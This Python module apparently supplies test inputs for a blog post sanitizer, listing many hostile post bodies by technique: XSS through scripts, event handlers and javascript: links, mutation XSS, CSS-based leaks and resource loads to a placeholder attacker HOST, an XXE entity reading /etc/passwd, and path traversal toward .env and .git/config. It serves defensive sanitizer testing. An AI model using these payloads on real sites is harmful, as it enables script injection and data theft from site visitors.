"""Texts of posts that attack, by what they try; ``HOST`` stands for a machine of the attacker's.

Whatever runs in the page would change its title, and whatever loads would reach the host.
"""

from __future__ import annotations

_RUN = "document.title='pwned'"

SCRIPTS = {
    "a module": f'<script type="module">{_RUN}</script>',
    "an import map": '<script type="importmap">{"imports": {"a": "http://HOST/a.js"}}</script>',
    "speculation rules": '<script type="speculationrules">{"prefetch":[{"urls":["http://HOST/"]}]}</script>',
    "a script in MathML": f"<math><mtext><script>{_RUN}</script></mtext></math>",
    "a script behind a comment that ends twice": f"<!--><script>{_RUN}</script>-->",
    "a script in a title in SVG": f"<svg><title><script>{_RUN}</script></title></svg>",
    "a script in noscript": f'<noscript><p title="</noscript><script>{_RUN}</script>"></p></noscript>',
    "a script behind a table that is put right": f"<table><script>{_RUN}</script><tr><td>x</td></tr></table>",
    "a script by an entity": "&lt;script&gt;"
    + _RUN
    + "&lt;/script&gt;<div>&#x3C;script>"
    + _RUN
    + "&#x3C;/script></div>",
    "a script in nomarkdown": f"{{::nomarkdown}}<script>{_RUN}</script>{{:/}}",
    "a script in a foreign object": f"<svg><foreignObject><script>{_RUN}</script></foreignObject></svg>",
    "an animation that sets a handler": f'<svg><set attributeName="onload" to="{_RUN}"/><a><animate '
    f'attributeName="href" values="javascript:{_RUN}"/><text y="9">x</text></a></svg>',
}
HANDLERS = {
    "an error": f'<img src="x" onerror="{_RUN}">',
    "a picture's source": f'<picture><source srcset="x" onerror="{_RUN}"><img src="x" onload="{_RUN}"></picture>',
    "a toggle": f'<details open ontoggle="{_RUN}">x</details>',
    "a focus": f'<input autofocus onfocus="{_RUN}"><select autofocus onfocus="{_RUN}"></select>',
    "an animation": f'<style>@keyframes k{{}}</style><p style="animation:k 1ms" onanimationstart="{_RUN}">x</p>',
    "a transition": f'<p style="transition:color 1ms" ontransitionend="{_RUN}">x</p>',
    "a marquee": f'<marquee onstart="{_RUN}">x</marquee>',
    "a video": f'<video src="x" onerror="{_RUN}"><source onerror="{_RUN}"></video><audio src=x onerror="{_RUN}">',
    "a body within": f'<body onload="{_RUN}" onpageshow="{_RUN}"><p>x</p></body>',
    "an attribute list of kramdown": f'x\n{{: onclick="{_RUN}" onmouseover="{_RUN}" onpointerrawupdate="{_RUN}"}}',
    "a span's attribute list": f'*x*{{: onfocus="{_RUN}" tabindex="0" autofocus="1"}}',
    "a list of attributes by name": f'{{:evil: onerror="{_RUN}" src="x"}}\n\n![x](x){{:evil}}',
    "upper case and blanks": f'<IMG SRC=x OnErRoR = "{_RUN}"\n>',
    "a scroll": f'<div style="overflow:auto;height:9px" onscroll="{_RUN}"><p id="low">x</p></div>',
}
ADDRESSES = {
    "javascript": f"[x](javascript:{_RUN})",
    "javascript with a tab": f'<a href="java\tscript:{_RUN}">x</a>',
    "javascript with a control character": f'<a href="&#1;javascript:{_RUN}">x</a>',
    "javascript by entities": f'<a href="&#106;avascript&colon;{_RUN}">x</a>',
    "javascript in an image": f"![x](javascript:{_RUN})",
    "javascript in SVG": f'<svg><a xlink:href="javascript:{_RUN}"><text y="9">x</text></a></svg>',
    "javascript in MathML": f'<math href="javascript:{_RUN}"><mtext>x</mtext></math>',
    "vbscript": f"[x](vbscript:{_RUN})",
    "data as a page": "[x](data:text/html,%3Cscript%3Edocument.title%3D'pwned'%3C/script%3E)",
    "data as SVG": "![x](data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%20onload='alert(1)'/%3E)",
    "a blob": '<a href="blob:frontispiece://post/x">x</a><img src="blob:frontispiece://post/x">',
    "the source of a page": '<a href="view-source:http://HOST/">x</a><iframe src="view-source:http://HOST/"></iframe>',
    "a reference": f"[x][a]\n\n[a]: javascript:{_RUN}",
    "a footnote": f'x[^a]\n\n[^a]: [y](javascript:{_RUN}) <img src=x onerror="{_RUN}">',
    "an abbreviation": f'HTML\n\n*[HTML]: "><img src=x onerror={_RUN}>',
    "a ping": '<a href="#x" ping="http://HOST/">x</a>',
}
LOADS = {
    "srcset": '<img srcset="http://HOST/a 1x, //HOST/b 2x" sizes="99vw">',
    "a preload": '<link rel="preload" as="image" href="http://HOST/"><link rel="modulepreload" href="http://HOST'
    '/m.js">',
    "a prerender": '<link rel="prerender" href="http://HOST/"><link rel="prefetch" href="http://HOST/">',
    "a manifest": '<link rel="manifest" href="http://HOST/"><link rel="icon" href="http://HOST/i">',
    "an import in a style": "<style>@import 'http://HOST/a.css'; @import url(//HOST/b.css) screen;</style>",
    "a font": "<style>@font-face{font-family:f;src:url(http://HOST/f)}p{font-family:f}</style>",
    "an image set": '<p style="background:image-set(url(http://HOST/a) 1x)">x</p>',
    "a cursor": '<p style="cursor:url(http://HOST/c),auto;list-style-image:url(http://HOST/l)">x</p>',
    "a filter": '<p style="filter:url(http://HOST/f#f);mask:url(http://HOST/m);clip-path:url(http://HOST/p#p)">x</p>',
    "content of CSS": "<style>p::after{content:url(http://HOST/c)}</style>",
    "an attribute selector": "<style>[href^='h']{background:url(http://HOST/leak)}</style><a href='http://x'>x</a>",
    "a poster": '<video poster="http://HOST/p"></video><audio src="http://HOST/a" autoplay></audio>',
    "a track": '<video><track default src="http://HOST/t"><source src="http://HOST/s"></video>',
    "an input": '<input type="image" src="http://HOST/i"><body background="http://HOST/b">',
    "an object": '<object data="http://HOST/o"><param name="movie" value="http://HOST/m"></object><embed src="http:/'
    '/HOST/e">',
    "a portal": '<portal src="http://HOST/"></portal><fencedframe></fencedframe>',
    "an image in SVG": '<svg><image href="http://HOST/i"/><use href="http://HOST/u#u"/><feImage href="http://HOST/f"'
    "/></svg>",
    "a form that is sent by a button": '<form action="http://HOST/"><button formaction="http://HOST/b">x</button><'
    "/form>",
    "a quotation's source": '<blockquote cite="http://HOST/">x</blockquote><q cite="http://HOST/">x</q>',
    "an address without a scheme": "![x](//HOST/i) ![y](\\\\HOST\\i)",
}
FRAMES = {
    "a document within": f'<iframe srcdoc="<script>parent.{_RUN}</script><img src=http://HOST/i>"></iframe>',
    "a frame of a frame": '<frameset><frame src="http://HOST/"></frameset>',
    "a shadow root": f'<div><template shadowrootmode="open"><script>{_RUN}</script><img src="http://HOST/i"><'
    "/template></div>",
    "a template": f'<template><img src="http://HOST/i" onerror="{_RUN}"></template>',
    "another base": '<base href="http://HOST/"><img src="relative.png">',
    "a refresh": '<meta http-equiv="refresh" content="0;url=http://HOST/">',
    "a refresh to a script": f'<meta http-equiv="refresh" content="0;url=javascript:{_RUN}">',
    "a policy": '<meta http-equiv="Content-Security-Policy" content="script-src *; img-src *">',
    "a dialog over everything": '<dialog open style="position:fixed;inset:0">x</dialog><p popover id="p">x</p>',
    "names of the page": '<form name="frontispiece"><input name="say"></form><a id="frontispiece-content">x</a>',
    "a fence's language": f'```"><img src=x onerror={_RUN}>\nx\n```',
    "a heading's id": f'# x {{#a"><img src=x onerror={_RUN}>}}\n\n## <img src=x onerror="{_RUN}">',
}
MUTATIONS = {
    "a style in MathML in SVG": f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={_RUN}>",
    "a comment in a style in SVG": f"<svg><style><!--</style><img src=x onerror={_RUN}>--></svg>",
    "a title that ends in an attribute": f'<svg></p><style><a id="</style><img src=x onerror={_RUN}>">',
    "an annotation in HTML": f'<math><annotation-xml encoding="text/html"><img src=x onerror={_RUN}></annotation-xml>'
    "</math>",
    "a form in a form": f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img"
    f" onerror={_RUN} src>'>",
    "a select that throws out": f"<select><template><img src=x onerror={_RUN}></template><svg><script>{_RUN}</script>"
    "</svg></select>",
    "text of an old kind": f"<xmp><p title='</xmp><img src=x onerror={_RUN}>'></p></xmp><listing>&lt;img src=x"
    f" onerror={_RUN}></listing>",
    "what older browsers skip": f"<noembed><p title='</noembed><img src=x onerror={_RUN}>'></p></noembed><noframes>"
    f"<script>{_RUN}</script></noframes>",
    "a CDATA section": f"<svg><![CDATA[><img src=x onerror={_RUN}>]]></svg><![CDATA[<script>{_RUN}</script>]]>",
    "an instruction": f"<?xml-stylesheet href='javascript:{_RUN}'?><?php echo 1 ?><!DOCTYPE x [<!ENTITY e SYSTEM "
    "'file:///etc/passwd'>]>&e;",
    "deep nesting": "<b>" * 600 + f"<img src=x onerror={_RUN}>" + "</b>" * 600,
    "a name with a null": f"<scr\0ipt>{_RUN}</scr\0ipt><img src=x onerr\0or={_RUN} o\0nload={_RUN}>",
    "attributes twice": f"<a href='#x' href='javascript:{_RUN}' HREF='javascript:{_RUN}'>x</a>",
    "a tag that does not end": f"<img src=x title='a\n\nb' onerror={_RUN} //",
    "all that is left open": "<table><tr><td><select><textarea><title><svg><math><style>",
    "text that takes all": "<plaintext>",
}
STYLES = {
    "text by its attributes": "<style>a[href*='a']{background:image-set('http://HOST/1'"
    " 1x)}input[value^=s]{list-style:url(//HOST/2)}</style>",
    "a mixed picture": '<p style="background:-webkit-cross-fade(url(http://HOST/a), url(//HOST/b), 50%)">x</p>',
    "an old picture set": '<p style="background:-webkit-image-set(url(http://HOST/a) 1x)">x</p>',
    "an address in a variable": '<style>p{--u:url(http://HOST/v);background:var(--u)}</style><p style="--u:url(/'
    '/HOST/w)">x</p>',
    "an address by a property": "<style>@property --p{syntax:'<url>';inherits:false;initial-value:url(http://HOST"
    "/p)}p{background:var(--p)}</style>",
    "an address with escapes": "<style>p{background:\\75\\72\\6c(http://HOST/e)}</style><p style="
    "'background:u\\rl(http://HOST/f)'>x</p>",
    "borders and masks": '<p style="border:9px solid;border-image:url(http://HOST/b) 9;-webkit-mask-image:url(http:/'
    '/HOST/m);-webkit-box-reflect:below 0 url(http://HOST/r)">x</p>',
    "letters that load by what is there": "<style>@font-face{font-family:l;src:url(http://HOST/A)"
    ";unicode-range:U+41}p{font-family:l}</style><p>A</p>",
    "a sheet that ends its scope": "<style>} } @import url(http://HOST/x); body{background:url(http://HOST/y)} {<"
    "/style>",
    "a condition and a layer": "<style>@import url(http://HOST/l) layer(a) supports(display:grid)"
    ";@supports(display:grid){p{background:url(http://HOST/s)}}</style>",
    "the name space of another": "<style>@namespace url(http://HOST/n);@charset 'x';@document url(http://HOST"
    "/){p{color:red}}</style>",
    "a shape and an offset": '<p style="float:left;shape-outside:url(http://HOST/s);offset-path:url(http://HOST/o#p)'
    '">x</p>',
    "a counter": "<style>@counter-style c{system:cyclic;symbols:url(http://HOST/c)}ol{list-style:c}</style><ol><li>x"
    "</li></ol>",
    "an animation of addresses": "<style>@keyframes k{to{background:url(http://HOST/k)}}p{animation:k 1ms forwards}<"
    "/style><p>x</p>",
    "a view that moves": "<style>@view-transition{navigation:auto}:root{view-transition-name:x}::view-transition{back"
    "ground:url(http://HOST/v)}</style>",
}
WAYS_OUT = {
    "a link that an animation turns": '<svg><a href="#x"><animate attributeName="href" values="#a;http://HOST/'
    ';javascript:1" dur="1ms" fill="freeze"/><text y="9">x</text></a></svg>',
    "a refresh in other spellings": '<META HTTP-EQUIV=" refresh " CONTENT="0 ;URL=//HOST/"><meta http-equiv='
    '"Set-Cookie" content="a=b">',
    "a permission": '<permission type="geolocation camera"></permission><geolocation autolocate></geolocation>',
    "a base in SVG": '<svg xml:base="http://HOST/"><image href="b.png"/><use href="b.svg#b"/></svg>',
    "rules ahead of time": '<link rel="dns-prefetch preconnect prerender compression-dictionary" href="http://HOST/"'
    '><link rel="expect" href="#never" blocking="render">',
    "a source of another machine": '<picture><source srcset="//HOST/s" media="all"><img alt="x"></picture><img src='
    '"data:," srcset="http://HOST/t 2x" sizes="auto" loading="lazy">',
    "what is told of a click": '<a href="#x" ping="http://HOST/p" attributionsrc="http://HOST/a">x</a><img src='
    '"data:," attributionsrc="http://HOST/i">',
    "what is told of a lack": '<iframe csp="default-src; report-uri http://HOST/r"></iframe><div nonce="x" is="x-y">'
    "</div>",
    "a film with all that it may name": '<video controls autoplay poster="//HOST/p" src="blob:http://HOST/x"><track'
    ' src="//HOST/t" default><source src="http://HOST/s"></video>',
    "an old applet": '<applet code="http://HOST/a"></applet><bgsound src="http://HOST/b"><keygen><isindex action='
    '"http://HOST/i"><layer src="http://HOST/l"></layer>',
    "a worker and a door": "<script>new Worker('data:,');navigator.serviceWorker.register('/x.js');new"
    " RTCPeerConnection({iceServers:[{urls:'stun:HOST'}]})</script>",
    "a button that commands": '<button commandfor="d" command="show-modal" popovertarget="d" interestfor="d">x<'
    '/button><dialog id="d" popover>y</dialog>',
}
IN_THE_SITE = {
    "a drawing with a script": "![x](/assets/evil.svg) ![y](/assets/evil.svg#x)",
    "a part of such a drawing": '<svg><use href="/assets/evil.svg#x"/><image href="/assets/evil.svg"/></svg>',
    "such a drawing as all that it may be": '<object data="/assets/evil.svg"></object><embed src="/assets/evil.svg">'
    '<iframe src="/assets/evil.svg"></iframe>',
    "a filter and a mask from such a drawing": '<p style="filter:url(/assets/evil.svg#f);mask:url(/assets'
    '/evil.svg#m);background:url(/assets/evil.svg)">x</p>',
    "a page that is called a picture": "![x](/assets/page.png) [y](/assets/page.html)",
    "a pipe that is called a picture": "![x](/assets/pipe.png)",
    "a picture of a billion points": "![x](/assets/vast.png)",
}
PATHS = {
    "a step up": "![x](/../outside/secret.png) ![y](../../outside/secret.png)",
    "an encoded step up": "![x](/%2e%2e/outside/secret.png) ![y](/assets/%2e%2e%2f%2e%2e%2foutside/secret.png)",
    "a step up encoded twice": "![x](/%252e%252e/outside/secret.png)",
    "a backslash": "![x](/..%5coutside%5csecret.png) <img src='/assets/..\\..\\outside\\secret.png'>",
    "overlong letters": "![x](/%c0%ae%c0%ae/outside/secret.png) ![y](/%e0%80%ae%e0%80%ae/outside/secret.png)",
    "a null": "![x](/assets/ok.png%00.svg) ![y](/../outside/secret.png%00)",
    "a link in the site": "![x](/assets/link.png) ![y](/assets/link.svg)",
    "data of the site": "![x](/_data/secret.svg) ![y](/.env) ![z](/.git/config)",
    "a file address": "![x](file:///etc/passwd) <img src='file:///etc/hostname'> [y](file:///etc/passwd)",
    "a drive": "![x](/C:/Windows/win.ini) ![y](C:\\Windows\\win.ini)",
    "a name as long as names get": f"![x](/{'a' * 5000}.png)",
    "wide dots": "![x](/．．/outside/secret.png) ![y](/‥/outside/secret.png)",
}
GROUPS = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "addresses": ADDRESSES,
    "loads": LOADS,
    "frames": FRAMES,
    "mutations": MUTATIONS,
    "styles": STYLES,
    "ways out": WAYS_OUT,
    "files of the site": IN_THE_SITE,
    "paths": PATHS,
}
